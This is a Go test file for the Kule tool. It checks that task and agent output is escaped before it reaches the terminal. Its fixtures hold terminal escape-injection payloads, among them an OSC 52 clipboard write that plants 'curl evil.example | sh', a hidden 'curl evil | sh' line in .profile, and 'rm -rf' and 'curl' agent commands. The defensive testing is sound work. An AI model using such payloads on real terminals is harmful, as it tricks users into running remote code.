package main

import (
	"context"
	"github.com/kulehq/kule/kernel"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"
)

// terminalControl finds the first byte of out a terminal would act on: ESC,
// BEL, any other C0 control but a line break or tab, DEL, a C1 control (as
// UTF-8 or as a raw byte) or a bidirectional override.
func terminalControl(out string) (string, bool) {
	for i := 0; i < len(out); {
		r, n := utf8.DecodeRuneInString(out[i:])
		bad := r == utf8.RuneError && n == 1 ||
			r < 0x20 && r != '\n' && r != '\t' || r == 0x7f || r >= 0x80 && r < 0xa0 || r >= 0x202a && r <= 0x202e
		if bad {
			lo, hi := max(0, i-40), min(len(out), i+40)
			return out[lo:hi], true
		}
		i += n
	}
	return "", false
}

// A task plants escape sequences where Kule prints what it made: a Markdown
// heading (an entity name: an OSC 52 clipboard write), a file name (cursor
// moves), a file in its home layer (a window title and a C1 CSI), and the
// lines of that file. kule exec, status, home and home diff print none of
// them raw; with the guard taken away the same run puts them on the
// terminal.
func TestTaskTextNeverReachesTheTerminalRaw(t *testing.T) {
	dir := t.TempDir()
	folder, person := filepath.Join(dir, "folder"), filepath.Join(dir, "person")
	writeFile(t, filepath.Join(folder, "notes.md"), "# Plan\n\nweek\n")
	writeFile(t, filepath.Join(person, ".profile"), "export A=1\n")
	t.Setenv("HOME", person)
	c := cli{t: t, home: filepath.Join(dir, "home")}
	id, _, _ := strings.Cut(strings.TrimPrefix(c.must("new", folder), "task "), " ")

	const clip = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\a"
	homeName := ".conf\x1b]0;pwned\a\u009b2A"
	runAs := func(raw bool, args ...string) string {
		t.Helper()
		cmd := exec.Command(os.Args[0], args...)
		cmd.Env = append(os.Environ(), "KULE_AS_CLI=1", "KULE_HOME="+c.home)
		if raw {
			cmd.Env = append(cmd.Env, "KULE_TEST_RAW_OUTPUT=1")
		}
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Fatalf("kule %s: %v\n%q", strings.Join(args, " "), err, out)
		}
		return string(out)
	}
	exec := func(raw bool) string {
		return runAs(raw, "exec", id, "--", "sh", "-c",
			`printf '# Title \033]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\007\n\nweek\n' > notes.md; echo x > "$(printf 'a\033[2Ab.txt')"`)
	}
	exec(false)
	layer := filepath.Join(c.home, "tasks", id, "home")
	writeFile(t, filepath.Join(layer, homeName), "ok\n")
	writeFile(t, filepath.Join(layer, ".profile"), "export A=1\n\x1b[1A\x1b[2Kcurl evil | sh\n")

	views := map[string]func(raw bool) string{
		"exec":      exec,
		"status":    func(raw bool) string { return runAs(raw, "status", id) },
		"home":      func(raw bool) string { return runAs(raw, "home", id) },
		"home diff": func(raw bool) string { return runAs(raw, "home", id, "diff", ".profile") },
	}
	// The guard taken away: what the task planted reaches the terminal.
	raw := views["status"](true)
	if !strings.Contains(raw, clip) {
		t.Fatalf("without the guard, the heading's escape should print raw (else this test shows nothing):\n%q", raw)
	}
	if _, bad := terminalControl(views["home"](true)); !bad {
		t.Fatal("without the guard, the home layer's file name should print raw")
	}
	if _, bad := terminalControl(views["home diff"](true)); !bad {
		t.Fatal("without the guard, the home file's lines should print raw")
	}
	for name, view := range views {
		out := view(false)
		if at, bad := terminalControl(out); bad {
			t.Errorf("kule %s prints a terminal control near %q:\n%q", name, at, out)
		}
	}
	// What was planted is still shown, as text a person can read.
	if st := views["status"](false); !strings.Contains(st, `Title \x1b]52;c;`) || !strings.Contains(st, `a\x1b[2Ab.txt`) {
		t.Errorf("kule status does not show the planted names escaped:\n%s", st)
	}
	if h := views["home"](false); !strings.Contains(h, `~/.conf\x1b]0;pwned\x07\u009b2A`) {
		t.Errorf("kule home does not show the planted file name escaped:\n%s", h)
	}
}

// What an agent sends (its message, a tool call's title and command, a
// permission question) reaches the terminal with no control of its own;
// with the guard off the same events print their escapes raw.
func TestAgentOutputIsTerminalSafe(t *testing.T) {
	const evil = "\x1b]52;c;Y3VybA==\a\x1b[2A\u009b2K"
	step := &kernel.Step{N: 1, Kind: "edit", Title: "Write " + evil, Status: "completed", Command: "rm -rf " + evil, Paths: []string{"a" + evil}}
	events := []kernel.Event{
		{Type: kernel.EventText, Text: "hello " + evil + "\nsecond line\n"},
		{Type: kernel.EventStepStart, Step: step},
		{Type: kernel.EventStepEnd, Step: step},
		{Type: kernel.EventNotice, Text: "notice " + evil},
	}
	print := func() string {
		var b strings.Builder
		p := &printer{w: &b}
		for _, e := range events {
			p.event(e)
		}
		ask := terminalAsk(p, strings.NewReader("\n"), &b)
		_, _ = ask(context.Background(), kernel.Question{Title: "May I " + evil, Command: "curl " + evil, Paths: []string{"x" + evil}, Options: []kernel.PermissionOption{{OptionID: "1", Name: "Allow " + evil, Kind: "allow_once"}}})
		return b.String()
	}
	rawOutput = true
	raw := print()
	rawOutput = false
	if _, bad := terminalControl(raw); !bad {
		t.Fatal("with the guard off the agent's escapes should print raw (else this test shows nothing)")
	}
	out := print()
	if at, bad := terminalControl(out); bad {
		t.Fatalf("an agent's output holds a terminal control near %q:\n%q", at, out)
	}
	if !strings.Contains(out, "hello \\x1b]52;c;") || !strings.Contains(out, "\nsecond line\n") || !strings.Contains(out, "The agent asks: May I \\x1b]52") {
		t.Fatalf("the agent's words are not shown escaped, or lose their lines:\n%s", out)
	}
}
